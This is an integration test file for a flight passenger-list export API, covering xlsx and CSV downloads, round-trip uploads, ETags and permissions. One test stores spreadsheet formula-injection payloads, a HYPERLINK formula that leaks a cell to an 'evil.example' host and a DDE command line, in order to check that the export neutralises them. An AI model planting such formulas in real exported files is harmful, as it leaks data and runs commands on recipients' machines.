import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { print } from 'graphql';
import request from 'supertest';
import { PassengerListDocument, PassengerListExportsDocument, PassengerListHistoryDocument, UploadPassengerListDocument } from '../../src/graphql/generated/operations';
import { PASSENGER_SHEET_COLUMNS } from '../../src/passengers/sheet/heading-aliases';
import { passengerRecord } from '../helpers/passengers';
import { startTestApp, type TestApp } from '../helpers/test-app';
import { createFlight, createReferenceData } from '../helpers/timeline-fixtures';
import { graphqlForm, graphqlUploadHeaders, MULTIPART_TYPE } from '../helpers/upload-requests';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** A binary body as a Buffer (supertest leaves non-text bodies unparsed otherwise). */
const binary = (res: request.Response, callback: (error: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (chunk: Buffer) => chunks.push(chunk));
  res.on('end', () => callback(null, Buffer.concat(chunks)));
};

type Row = Record<string, unknown>;
/** Records as an upload previews them: no record ids yet, a parent named by its row (1 = first), from parent_id when stored. */
const comparable = (records: Row[]) =>
  records.map(({ id: _id, parent_id, row_number_parent_id, ...record }) => ({
    ...record,
    parent_row: parent_id === null ? row_number_parent_id : records.findIndex((other) => other.id === parent_id) + 1,
  }));

describe('GET /flight/<id>/passenger in other formats', () => {
  let testApp: TestApp;
  let reader: string;
  let writer: string;
  let flightId: number;
  let stored: Record<string, unknown>[];

  beforeAll(async () => {
    testApp = await startTestApp('passenger_export');
    reader = `Bearer ${await testApp.token(['passengers:read'], 'export-reader')}`;
    writer = `Bearer ${await testApp.token(['passengers:write', 'passengers:read'])}`;
    await createReferenceData(testApp);
    flightId = await createFlight(testApp, { resourceId: 2, from: 'LPPT', to: 'LIRF', departureAt: '2026-12-15T08:00:00Z', arrivalAt: '2026-12-15T11:00:00Z' });
    const created = [
      passengerRecord(11, { surname: 'Wróbel', name: 'Łukasz', nazionalita: 'PL', luogonascita: 'PL', issuingstate: 'PL', numberdoc: '0012345', phone: '+48 601 234 567', email: 'l.wrobel@example.com' }),
      passengerRecord(12, { surname: 'Nguyễn', name: 'Văn An', nazionalita: 'VN', gender: 'M', is_carring_infant: true }),
      passengerRecord(13, { surname: 'Groß', name: 'Jürgen, Maria', nazionalita: 'DE', gender: 'F' }),
      passengerRecord(14, { surname: 'Erdős', name: 'Pál', date_born: '2026-02-01', parent_id: 12 }),
    ];
    await request(testApp.app).post(`/api/broker/v0/flight/${flightId}/passenger`).set('Authorization', writer).send({ created, modified: [], deleted: [] }).expect(200);
    stored = (await request(testApp.app).get(`/api/broker/v0/flight/${flightId}/passenger`).set('Authorization', reader).expect(200)).body;
  });
  afterAll(() => testApp.close());

  const get = (query = '') => request(testApp.app).get(`/api/broker/v0/flight/${flightId}/passenger${query}`).set('Authorization', reader);

  it('answers JSON by default, for Accept */* and for a browser’s Accept', async () => {
    for (const accept of [undefined, '*/*', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8']) {
      const req = get();
      const res = await (accept ? req.set('Accept', accept) : req).expect(200);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      expect(res.headers.etag).toBe('"1"');
      expect(res.headers.vary).toMatch(/Accept/);
    }
  });

  it('writes an xlsx with the template’s headings that uploads back to the same records (REST)', async () => {
    const res = await get().set('Accept', XLSX).buffer(true).parse(binary).expect(200);
    expect(res.headers['content-type']).toBe(XLSX);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="flight-${flightId}-passengers-v1.xlsx"`);
    expect(res.headers.etag).toBe('"1-xlsx"');

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.body as unknown as Parameters<typeof workbook.xlsx.load>[0]);
    const sheet = workbook.worksheets[0];
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(PASSENGER_SHEET_COLUMNS.map((column) => column.heading));
    expect(sheet.actualRowCount).toBe(5);
    expect(sheet.getCell('C2').value).toEqual(new Date(Date.UTC(1980, 4, 1)));
    expect(sheet.getCell('G2').value).toBe('0012345');

    const preview = await request(testApp.app).post(`/api/broker/v0/upload/${flightId}`).set('Authorization', writer).attach('paxlist', res.body as Buffer, 'export.xlsx').expect(200);
    expect(comparable(preview.body)).toEqual(comparable(stored));
    expect(comparable(stored)[3].parent_row).toBe(2);
  });

  it('an exported xlsx uploads back to the same records through GraphQL’s uploadPassengerList', async () => {
    const file = (await get('?format=xlsx').buffer(true).parse(binary).expect(200)).body as Buffer;
    const token = await testApp.token(['passengers:write']);
    const res = await request(testApp.app).post('/graphql').set(graphqlUploadHeaders(token)).set('Content-Type', MULTIPART_TYPE).send(graphqlForm(flightId, file)).expect(200);
    expect(res.body.errors).toBeUndefined();
    expect(comparable(res.body.data.uploadPassengerList)).toEqual(comparable(stored));
  });

  it('writes RFC 4180 CSV in UTF-8 with a byte order mark, the same columns and values', async () => {
    const res = await get('?format=csv').buffer(true).parse(binary).expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="flight-${flightId}-passengers-v1.csv"`);
    expect(res.headers.etag).toBe('"1-csv"');
    const bytes = res.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text.split('\r\n')).toHaveLength(6);
    const rows: Record<string, string>[] = parse(bytes, { bom: true, columns: true, record_delimiter: '\r\n' });
    expect(Object.keys(rows[0])).toEqual(PASSENGER_SHEET_COLUMNS.map((column) => column.heading));
    expect(rows.map((row) => [row.Surname, row.Name, row['Date of birth'], row['Document number'], row['Carrying infant'], row['Parent row'], row.Phone])).toEqual([
      ['WRÓBEL', 'ŁUKASZ', '1980-05-01', '0012345', 'no', '', '+48601234567'],
      ['NGUYỄN', 'VĂN AN', '1980-05-01', 'YA1000012', 'yes', '', ''],
      [stored[2].surname, stored[2].name, '1980-05-01', 'YA1000013', 'no', '', ''],
      ['ERDŐS', 'PÁL', '2026-02-01', 'YA1000014', 'no', '2', ''],
    ]);
    expect(text).toContain(`"${String(stored[2].name)}"`);
  });

  it('an exported CSV uploads back to the same records through REST and GraphQL', async () => {
    const file = (await get('?format=csv').buffer(true).parse(binary).expect(200)).body as Buffer;
    const rest = await request(testApp.app)
      .post(`/api/broker/v0/upload/${flightId}`)
      .set('Authorization', writer)
      .attach('paxlist', file, { filename: `flight-${flightId}-passengers-v1.csv`, contentType: 'text/csv' })
      .expect(200);
    expect(rest.headers['x-sheet-warnings']).toBeUndefined();
    expect(comparable(rest.body)).toEqual(comparable(stored));

    const operations = JSON.stringify({ query: print(UploadPassengerListDocument), variables: { flightId, file: null } });
    const res = await request(testApp.app)
      .post('/graphql')
      .set('Authorization', writer)
      .set('Apollo-Require-Preflight', 'true')
      .field('operations', operations)
      .field('map', JSON.stringify({ 0: ['variables.file'] }))
      .attach('0', file, { filename: 'export.csv', contentType: 'text/csv' })
      .expect(200);
    expect(res.body.errors).toBeUndefined();
    expect(res.body.extensions?.warnings ?? []).toEqual([]);
    expect(comparable(res.body.data.uploadPassengerList)).toEqual(comparable(stored));
  });

  it('writes no cell a spreadsheet would run as a formula, keeps _xHHHH_ and days before March 1900 as they are, and the import refuses names and addresses that start like a formula', async () => {
    // A list stored before the import refused such values: copied from the flight's own, then changed in the database.
    const other = await createFlight(testApp, { resourceId: 2, from: 'LPPT', to: 'LIRF', departureAt: '2026-12-16T08:00:00Z', arrivalAt: '2026-12-16T11:00:00Z' });
    const lists = testApp.database.connection.db!.collection('passenger_lists');
    const { _id: _ignored, ...original } = (await lists.findOne({ flightId }))!;
    const storedAs = async (id: number, change: (passengers: Record<string, unknown>[]) => void) => {
      const passengers = (original.passengers as Record<string, unknown>[]).map((passenger) => ({ ...passenger }));
      change(passengers);
      await lists.insertOne({ ...original, flightId: id, passengers, history: [], historyDetails: [], exports: [], requests: [], outbox: [] });
    };
    await storedAs(other, (passengers) => {
      passengers[0].surname = '=HYPERLINK("HTTP://EVIL.EXAMPLE/?LEAK="&B3,"CLICK")';
      passengers[1].name = "-2+3+CMD|' /C CALC'!A0";
    });
    const csv = (await request(testApp.app).get(`/api/broker/v0/flight/${other}/passenger?format=csv`).set('Authorization', reader).buffer(true).parse(binary).expect(200)).body as Buffer;
    const rows: Record<string, string>[] = parse(csv, { bom: true, columns: true, record_delimiter: '\r\n' });
    expect(rows.map((row) => [row.Surname, row.Name, row.Phone])).toEqual([
      [`'=HYPERLINK("HTTP://EVIL.EXAMPLE/?LEAK="&B3,"CLICK")`, 'ŁUKASZ', '+48601234567'],
      ['NGUYỄN', `'-2+3+CMD|' /C CALC'!A0`, ''],
      [stored[2].surname, stored[2].name, ''],
      ['ERDŐS', 'PÁL', ''],
    ]);

    // An address holding _x0041_ and a birth day before March 1900 come back from the xlsx as they are.
    const third = await createFlight(testApp, { resourceId: 2, from: 'LPPT', to: 'LIRF', departureAt: '2026-12-17T08:00:00Z', arrivalAt: '2026-12-17T11:00:00Z' });
    await storedAs(third, (passengers) => {
      passengers[2].email = '_x0041_@example.com';
      passengers[2].date_born = '1900-01-01';
    });
    const xlsx = (await request(testApp.app).get(`/api/broker/v0/flight/${third}/passenger?format=xlsx`).set('Authorization', reader).buffer(true).parse(binary).expect(200)).body as Buffer;
    const preview = await request(testApp.app).post(`/api/broker/v0/upload/${third}`).set('Authorization', writer).attach('paxlist', xlsx, 'export.xlsx').expect(200);
    expect(preview.body[2]).toMatchObject({ email: '_x0041_@example.com', date_born: '1900-01-01' });

    const refused = await request(testApp.app)
      .post(`/api/broker/v0/flight/${other}/passenger`)
      .set('Authorization', writer)
      .send({ created: [passengerRecord(21, { surname: '=HYPERLINK("X")' }), passengerRecord(22, { name: '@SUM(A1:A9)' }), passengerRecord(23, { email: '=1+1@example.com' }), passengerRecord(24, { surname: "'t Hooft" })], modified: [], deleted: [] })
      .expect(422);
    expect(refused.body.error.details.map((detail: { index: number; field: string }) => [detail.index, detail.field])).toEqual([[0, 'surname'], [1, 'name'], [2, 'email']]);
    expect(refused.body.error.details[0].message).toContain('a name cannot start with =, +, - or @');
  });

  it('revalidates with the format’s ETag: 304 without a body', async () => {
    const res = await get('?format=csv').set('If-None-Match', '"1-csv"').expect(304);
    expect(res.text).toBe('');
    await get('?format=csv').set('If-None-Match', '"1"').expect(200);
  });

  it('refuses an unknown format (400) and an Accept nothing matches (406), naming what is offered', async () => {
    const unknown = await get('?format=docx').expect(400);
    expect(unknown.body.error.message).toMatch(/format must be one of json, xlsx, csv/);
    const other = await get('?sort=name').expect(400);
    expect(other.body.error.message).toMatch(/unknown query parameter "sort": this route accepts format/);
    const refused = await get().set('Accept', 'text/html').expect(406);
    expect(refused.body.error.code).toBe('NOT_ACCEPTABLE');
    expect(refused.body.error.message).toContain('text/csv');
  });

  it('records every file in the list’s export history, and changes nothing else of the list', async () => {
    const before = await testApp.graphql(PassengerListExportsDocument, { flightId });
    const history = (await testApp.graphql(PassengerListHistoryDocument, { flightId })).body.data!.passengerListHistory;
    await get('?format=xlsx').expect(200);
    await get().set('Accept', 'text/csv').expect(200);
    // Neither a JSON read nor a 304 makes a file.
    await get().expect(200);
    await get('?format=csv').set('If-None-Match', '"1-csv"').expect(304);
    const after = (await testApp.graphql(PassengerListExportsDocument, { flightId })).body.data!.passengerListExports;
    expect(after).toHaveLength(before.body.data!.passengerListExports.length + 2);
    expect(after.slice(0, 2).map(({ subject, format, version }) => ({ subject, format, version }))).toEqual([
      { subject: 'export-reader', format: 'csv', version: 1 },
      { subject: 'export-reader', format: 'xlsx', version: 1 },
    ]);
    expect(Date.parse(after[0].at)).toBeGreaterThanOrEqual(Date.parse(after[1].at));
    expect((await testApp.graphql(PassengerListHistoryDocument, { flightId })).body.data!.passengerListHistory).toEqual(history);
    const read = await testApp.graphql(PassengerListDocument, { flightId });
    expect(read.body.errors).toBeUndefined();
    const list = read.body.data!.passengerList;
    expect(list.version).toBe(1);
  });

  it('answers a HEAD of a file with the headers of its GET, sends no file and records nothing', async () => {
    const exportsNow = async () => (await testApp.graphql(PassengerListExportsDocument, { flightId })).body.data!.passengerListExports.length;
    const before = await exportsNow();
    const full = await get('?format=xlsx').buffer(true).parse(binary).expect(200);
    const head = await request(testApp.app).head(`/api/broker/v0/flight/${flightId}/passenger?format=xlsx`).set('Authorization', reader).expect(200);
    for (const name of ['content-type', 'content-disposition', 'etag', 'vary']) expect(head.headers[name]).toBe(full.headers[name]);
    expect(Number(head.headers['content-length'])).toBeGreaterThan(0);
    await request(testApp.app).head(`/api/broker/v0/flight/${flightId}/passenger`).set('Authorization', reader).set('Accept', 'text/csv').expect(200);
    // The GET's file is recorded; the HEADs are not.
    expect(await exportsNow()).toBe(before + 1);
  });

  it('needs passengers:read, and an unknown flight is a 404 in any format', async () => {
    const timelineOnly = `Bearer ${await testApp.token(['timeline:read'])}`;
    await request(testApp.app).get(`/api/broker/v0/flight/${flightId}/passenger?format=xlsx`).set('Authorization', timelineOnly).expect(403);
    await request(testApp.app).get('/api/broker/v0/flight/999999/passenger?format=csv').set('Authorization', reader).expect(404);
  });

  it('a flight without a list gives a file with only the heading row', async () => {
    const empty = await createFlight(testApp, { resourceId: 2, from: 'LPPT', to: 'LIRF', departureAt: '2026-12-16T08:00:00Z', arrivalAt: '2026-12-16T11:00:00Z' });
    const res = await request(testApp.app).get(`/api/broker/v0/flight/${empty}/passenger?format=csv`).set('Authorization', reader).buffer(true).parse(binary).expect(200);
    expect(res.headers['content-disposition']).toContain(`flight-${empty}-passengers-v0.csv`);
    expect((res.body as Buffer).toString('utf8').split('\r\n').filter(Boolean)).toHaveLength(1);
  });
});
